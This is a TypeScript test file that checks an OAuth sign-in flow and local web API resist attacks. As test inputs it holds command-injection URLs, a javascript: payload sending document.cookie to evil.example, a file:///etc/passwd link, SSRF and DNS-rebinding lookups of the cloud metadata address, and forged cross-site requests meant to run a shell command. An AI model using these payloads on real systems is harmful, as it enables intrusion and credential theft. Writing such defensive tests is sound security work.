/** Attacks on signing in and on our local listeners: rows O1 to O8, unless another test covers the whole row. */
import assert from 'node:assert/strict'
import type { RequestListener } from 'node:http'
import { test } from 'node:test'
import { createEgress } from '../../../src/egress/create-egress.ts'
import { openOutside } from '../../../src/egress/test-outside.ts'
import { OWNER } from '../../../src/kernel/principal.ts'
import { parseServerId } from '../../../src/kernel/server-id.ts'
import type { AcquirePrompt } from '../../../src/setup/connection/acquirer.ts'
import {
  codeIn,
  JSON_BODY,
  openTestWeb,
  request as http,
  send,
} from '../../../src/web/fake-client.ts'
import { openOAuthServer } from '../../fixtures/oauth-server.ts'
import { AS_METADATA, instead, json, open, request, signIn } from '../../oauth/mcp-sign-in.ts'
import { never, nobody, openOAuthRooms, requestFor } from '../../oauth/oauth-rooms.ts'
import { ISSUER } from '../../oauth/places.ts'
import { openHouse } from '../../servers/runtime/direct-sandbox.ts'
import { createStreamServer, openRemote, remote } from '../../servers/runtime/http-server.ts'

const described = (page: string): RequestListener =>
  json({
    issuer: ISSUER,
    authorization_endpoint: page,
    token_endpoint: `${ISSUER}/token`,
    registration_endpoint: `${ISSUER}/reg`,
    response_types_supported: ['code'],
    code_challenge_methods_supported: ['S256'],
  })

/** The page that the owner would be asked to open for each announced endpoint; undefined when none. */
async function pagesFor(announced: readonly string[]): Promise<readonly (string | undefined)[]> {
  await using server = await openOAuthServer()
  await using rooms = await open(server)
  const pages: (string | undefined)[] = []
  for (const page of announced) {
    instead(server, 'as.cordon.test', AS_METADATA, described(page))
    const given = new AbortController()
    let asked: string | undefined
    const prompted = (prompt: AcquirePrompt): void => {
      asked = prompt.kind === 'authorize' ? prompt.url : ''
      given.abort()
    }
    await rooms.acquire.start(request, prompted, given.signal)
    pages.push(asked)
  }
  assert.deepEqual(await rooms.vault.list(OWNER.id), [])
  return pages
}

async function assertShownToNobody(pages: readonly string[]): Promise<void> {
  const shown = await pagesFor(pages)
  assert.deepEqual(
    pages.filter((_page, at) => shown[at] !== undefined),
    [],
  )
}

test('O1: a sign-in page that is a command is shown to nobody, and one that holds a command is spelled out', async () => {
  await assertShownToNobody([
    'a:$(cmd.exe /c calc)?x=1',
    '-e calc',
    '--profile=/tmp/x https://as.cordon.test/auth',
    '\\\\evil.example\\share\\run.exe',
    'ms-msdt:/id PCWDiagnostic',
  ])
  const [page = ''] = await pagesFor(['https://as.cordon.test/auth?x=$(calc)`id`\'";\n|&y=<z>'])
  assert.match(page, /^https:\/\/as\.cordon\.test\/auth\?x=/)
  assert.doesNotMatch(page, /[\s$()`'"<>;|\\]/)
})

test('O2: a sign-in page that is a script, a document or a file is shown to nobody', async () => {
  await assertShownToNobody([
    'javascript:fetch(`//evil.example/${document.cookie}`)',
    'java\tscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'file:///etc/passwd',
    'blob:https://as.cordon.test/x',
    'vbscript:msgbox(1)',
    'view-source:https://as.cordon.test/auth',
  ])
})

const METADATA_SERVICE = '169.254.169.254'
const WORDS = 'ami-id instance-profile AccessKeyId'

test('O3: discovery leads to no address inside, neither named, redirected, resolved nor rebound, and tells nothing of it', async () => {
  const inside = `https://${METADATA_SERVICE}/latest/meta-data/`
  await using outside = await openOutside()
  outside.names.set('inside.example', [METADATA_SERVICE])
  // DNS rebinding: a public address when vetted, a private one at the next lookup.
  let looks = 0
  outside.names.set('evil.example', () => [looks++ === 0 ? '93.184.216.34' : METADATA_SERVICE])
  const egress = createEgress(outside.parts())
  await using rooms = await openOAuthRooms({ createFetch: (way) => egress.createFetch(way) })
  for (const { challenge, moved, issuer } of [
    { challenge: `http://${METADATA_SERVICE}/latest/meta-data/` },
    { challenge: inside },
    { challenge: 'https://inside.example/' },
    { moved: inside },
    { moved: 'http://127.0.0.1:1/' },
    { issuer: `https://${METADATA_SERVICE}` },
    { issuer: 'https://inside.example' },
    { issuer: 'https://[::ffff:a9fe:a9fe]' },
    { issuer: 'https://evil.example' },
  ] as { readonly challenge?: string; readonly moved?: string; readonly issuer?: string }[]) {
    const headers = challenge && { 'www-authenticate': `Bearer resource_metadata="${challenge}"` }
    const about = { resource: 'https://allowed.example/mcp', authorization_servers: [issuer] }
    outside.answer = (asked, response) => {
      const { url, headers: sent } = asked
      if (sent.host !== 'allowed.example') response.writeHead(302, { location: inside }).end(WORDS)
      else if (url === '/mcp') response.writeHead(401, { ...headers }).end(WORDS)
      else if (moved) response.writeHead(302, { location: moved }).end(WORDS)
      else if (issuer) json(about)(asked, response)
      else response.writeHead(500).end(WORDS)
    }
    const wanted = requestFor({ kind: 'mcp', key: 'bearer' }, 'https://allowed.example/mcp')
    const ended = await rooms.acquire.start(wanted, nobody, never)
    assert.equal(ended.kind, 'unavailable')
    assert.ok(!JSON.stringify(ended).includes('AccessKeyId'))
  }
  const isInside = (address: string): boolean => !/^(?:127\.0\.0\.1|93\.184)/.test(address)
  assert.deepEqual(outside.dialled.filter(isInside), [])
  assert.ok(looks > 0, 'the rebound name was looked up')
  assert.ok(!JSON.stringify([rooms.events, outside.logged]).includes('AccessKeyId'))
})

test('O4: Cordon is nobody’s way to sign in, and registers anew for each sign-in of its own', async (t) => {
  const { port } = await openTestWeb(t)
  const host = `Host: 127.0.0.1:${port}`
  const origin = `Origin: http://127.0.0.1:${port}`
  for (const path of ['authorize', 'register', 'token', '.well-known/oauth-authorization-server']) {
    for (const line of [
      `GET /${path}?client_id=a&redirect_uri=https://evil.example`,
      `POST /${path}`,
    ]) {
      const answer = await send({ port }, http(line, [host, origin, JSON_BODY], '{}'))
      assert.match(codeIn(answer), /^404 /, line)
    }
  }
  await using server = await openOAuthServer()
  await using rooms = await open(server)
  const pages = [(await signIn(server, rooms)).page, (await signIn(server, rooms)).page]
  for (const name of ['client_id', 'state', 'code_challenge', 'redirect_uri']) {
    const values = pages.map((page) => page?.searchParams.get(name))
    assert.equal(new Set(values).size, 2, `${name} is used once`)
  }
})

test('O5: a server is sent its own token and no other, wherever it points', async () => {
  const [first, second] = [createStreamServer(), createStreamServer()]
  const seen: [string, string][] = []
  await using outside = await openOutside()
  outside.answer = (asked, response) => {
    const { host = '', authorization = '' } = asked.headers
    seen.push([host, authorization])
    if (host === 'allowed.example') first.listener(asked, response)
    else second.listener(asked, response)
  }
  const auth = (name: string) => ({ bearer: { scheme: 'vault', name } as const })
  const other = {
    ...remote({ auth: auth('b'), url: 'https://other.example/mcp' }),
    id: parseServerId('other'),
  }
  await using house = await openHouse([remote({ auth: auth('a') }), other], {
    egress: createEgress(outside.parts()),
    secrets: { a: 'token-of-the-first', b: 'token-of-the-second' },
  })
  assert.equal((await house.call('it', 'echo', { text: 'hi' })).kind, 'ok')
  assert.equal((await house.call('other', 'echo', { text: 'hi' })).kind, 'ok')
  assert.deepEqual(
    new Set(seen.map((pair) => pair.join(' '))),
    new Set([
      'allowed.example Bearer token-of-the-first',
      'other.example Bearer token-of-the-second',
    ]),
  )
})

test('O5: an older server that names another host as the place to post to is sent nothing there', async () => {
  const place = 'https://other.example/messages'
  const greet: RequestListener = (_request, response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' })
    response.write(`event: endpoint\ndata: ${place}\n\n`)
  }
  const definition = remote({
    transport: 'sse',
    url: 'https://allowed.example/sse',
    allowedDomains: ['allowed.example', 'other.example'],
    auth: { bearer: { scheme: 'vault', name: 'token' } },
  })
  await using house = await openRemote(definition, greet, { secrets: { token: 'a-token-of-its' } })
  await assert.rejects(house.servers.start(parseServerId('it'), never))
  assert.deepEqual(new Set(house.outside.reached), new Set(['allowed.example']))
})

test('O6: a token that comes back in place of a code is not taken', async () => {
  for (const query of [
    'access_token=stolen&token_type=Bearer',
    'code=x&access_token=stolen',
    'id_token=a.b.c',
  ]) {
    await using server = await openOAuthServer()
    await using rooms = await open(server)
    const come = (prompt: AcquirePrompt): void => {
      assert.ok(prompt.kind === 'authorize')
      const { searchParams } = new URL(prompt.url)
      assert.equal(searchParams.get('response_type'), 'code')
      const state = searchParams.get('state')
      const back = `${searchParams.get('redirect_uri')}?${query}&state=${state}&iss=${ISSUER}`
      void fetch(back)
    }
    assert.equal((await rooms.acquire.start(request, come, never)).kind, 'failed', query)
    assert.deepEqual(await rooms.vault.list(OWNER.id), [])
  }
})

test('O8: nothing that a web page can send makes the API run or write a command', async (t) => {
  const { port, calls } = await openTestWeb(t)
  const host = `Host: 127.0.0.1:${port}`
  const own = `Origin: http://127.0.0.1:${port}`
  const command = { server: 'x', changes: { command: 'touch', args: ['/tmp/owned'] } }
  const body = JSON.stringify(command)
  const query = 'transportType=stdio&command=touch&args=%2Ftmp%2Fowned'
  const tried: Record<string, string> = {
    'a page elsewhere': http(
      'POST /api/mcp.add',
      [host, 'Origin: https://evil.example', JSON_BODY],
      body,
    ),
    'a page without an origin': http('POST /api/mcp.add', [host, 'Origin: null', JSON_BODY], body),
    'a form': http('POST /api/mcp.add', [host, own, 'Content-Type: text/plain'], body),
    'no session': http('POST /api/mcp.add', [host, own, JSON_BODY], body),
    'a made up session': http(
      'POST /api/mcp.add',
      [host, own, JSON_BODY, `Cookie: cordon-session-${port}=x`, 'X-Cordon-Csrf: x'],
      body,
    ),
    'a link': http(`GET /api/mcp.add?${query}`, [host]),
    'the way of another inspector': http(`GET /sse?${query}`, [host]),
    'its other way': http(`POST /mcp?${query}`, [host, own, JSON_BODY], body),
  }
  for (const [name, bytes] of Object.entries(tried)) {
    assert.match(await send({ port }, bytes), /^HTTP\/1\.1 4\d\d /, name)
  }
  assert.deepEqual(calls, [])
})
